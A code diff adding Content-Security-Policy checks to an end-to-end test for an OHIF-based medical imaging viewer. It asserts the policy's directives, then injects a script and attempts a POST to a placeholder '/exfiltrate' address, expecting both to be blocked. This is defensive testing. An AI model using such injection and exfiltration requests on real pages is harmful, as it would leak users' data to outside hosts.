@@ -4,6 +4,8 @@
  * the study list renders (its QIDO request authenticated by the cookie), the page is cross-origin
  * isolated, no asset is missing, the Limen extension registers its panels, the 3D panel draws a
  * GLB (and hides it segment by segment), and the review panel decides through the review API.
+ * All of it under the viewer's Content-Security-Policy: any violation fails the test it happens
+ * in, and a script injected into the page is refused.
  *
  * Needs the viewer (`npm run fetch-viewer`, run by `npm install`) and Debian's chromium.
  */
@@ -18,6 +20,8 @@ import { PEERS, requirePeers } from '../support/peers.js';
 import { makeTestGlb, TEST_SEGMENTS } from './support/glb.js';
 import { startViewerServer, testReview, type ViewerServer } from './support/viewer-server.js';
 import { canvasPixels } from '../support/canvas-pixels.js';
+import { directives, inlineScriptHashesOf, watchCsp, type CspViolations } from '../support/csp.js';
+import { until } from '../support/wait.js';
 
 const VIEWER_DIR = join(PROJECT_ROOT, 'viewer-dist');
 const STUDY = '2.25.31415926535897932384626433832795';
@@ -50,6 +54,7 @@ describe('ohif: the viewer under /viewer with the Limen extension (headless Chro
   let glb: Uint8Array;
   const consoleErrors: string[] = [];
   const failed: string[] = [];
+  let cspViolations: CspViolations = [];
 
   before(async function () {
     requirePeers(this, 'chromium');
@@ -80,6 +85,14 @@ describe('ohif: the viewer under /viewer with the Limen extension (headless Chro
     page.on('console', (m) => m.type() === 'error' && consoleErrors.push(m.text()));
     page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
     page.on('response', (r) => r.status() >= 400 && failed.push(`${r.status()} ${new URL(r.url()).pathname}`));
+    cspViolations = await watchCsp(context, page);
+  });
+
+  afterEach(function () {
+    // Whatever a test did, the viewer (and the sign-in page) ran within their policies.
+    const seen = cspViolations.splice(0);
+    if (seen.length > 0 && this.currentTest?.state === 'failed') process.stdout.write(`  Content-Security-Policy violations:\n    ${seen.join('\n    ')}\n`);
+    else expect(seen, 'Content-Security-Policy violations').to.deep.equal([]);
   });
 
   after(async () => {
@@ -118,6 +131,48 @@ describe('ohif: the viewer under /viewer with the Limen extension (headless Chro
     const assets = server!.requests.filter((r) => r.path.startsWith('/viewer/') && /\.(js|css|woff2)$/.test(r.path));
     expect(assets.length).to.be.greaterThan(5);
     expect(server!.requests.filter((r) => !r.path.startsWith('/viewer') && /\.(js|css|woff2|wasm)$/.test(r.path)), 'assets asked for outside /viewer').to.deep.equal([]);
+  });
+
+  it("runs under the app page's policy: its own scripts and inline ones by hash, its own origin only; an injected script is refused", async () => {
+    const res = await context!.request.get(`${server!.url}/viewer/`);
+    expect(res.status()).to.equal(200);
+    const policy = res.headers()['content-security-policy'] ?? '';
+    const d = directives(policy);
+    const hashes = inlineScriptHashesOf(await res.text());
+    expect(hashes.length, 'inline scripts of index.html').to.equal(2);
+    // 'unsafe-eval': ndarray (the SEG adapter) and the codecs' embind glue compile with `new Function` (gateway/viewer/csp.ts).
+    expect(d.get('script-src')).to.deep.equal(["'self'", ...hashes, "'unsafe-eval'", "'wasm-unsafe-eval'"]);
+    expect(d.get('default-src')).to.deep.equal(["'self'"]);
+    expect(d.get('connect-src')).to.deep.equal(["'self'"]);
+    expect(d.get('object-src')).to.deep.equal(["'none'"]);
+    expect(d.get('base-uri')).to.deep.equal(["'self'"]);
+    expect(d.get('form-action')).to.deep.equal(["'self'"]);
+    expect(d.get('frame-ancestors')).to.deep.equal(["'self'"]);
+    expect(d.get('worker-src')).to.deep.equal(["'self'"]);
+    expect(policy, 'no other origin, no blob: or wildcard source').to.not.match(/'unsafe-hashes'|\*|https?:|blob:/);
+    expect(d.get('script-src')).to.not.include("'unsafe-inline'");
+
+    // The open page: a script put into it does not run, nor does a request leave for another origin.
+    const errorsBefore = consoleErrors.length;
+    const outcome = await page.evaluate(async () => {
+      document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.__injected = 1' }));
+      const sent = await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      return { injected: (window as unknown as { __injected?: number }).__injected, sent };
+    });
+    expect(outcome).to.deep.equal({ injected: undefined, sent: 'refused' });
+    // Each refusal is reported by the page's event, and by Chromium's console lines.
+    const events = () => cspViolations.filter((v) => v.startsWith('enforce '));
+    await until(() => (events().length >= 2 && cspViolations.length >= 4 ? true : undefined), 5_000, 'both refusals reported');
+    await new Promise((r) => setTimeout(r, 200));
+    expect(events().map((v) => v.split(' at ')[0])).to.have.members(['enforce script-src-elem: inline', 'enforce connect-src: http://127.0.0.2:9/exfiltrate']);
+    expect(cspViolations.filter((v) => !v.startsWith('enforce ')).every((v) => /^console: .*Content Security Policy/.test(v)), 'the console lines').to.equal(true);
+    cspViolations.length = 0;
+    // The console errors of the two refusals, and nothing else, are expected here.
+    expect(consoleErrors.slice(errorsBefore).filter((e) => !/Content Security Policy/.test(e)), 'console errors').to.deep.equal([]);
+    consoleErrors.length = errorsBefore;
   });
 
   it('loads the Limen extension and registers its review and 3D panels', async () => {
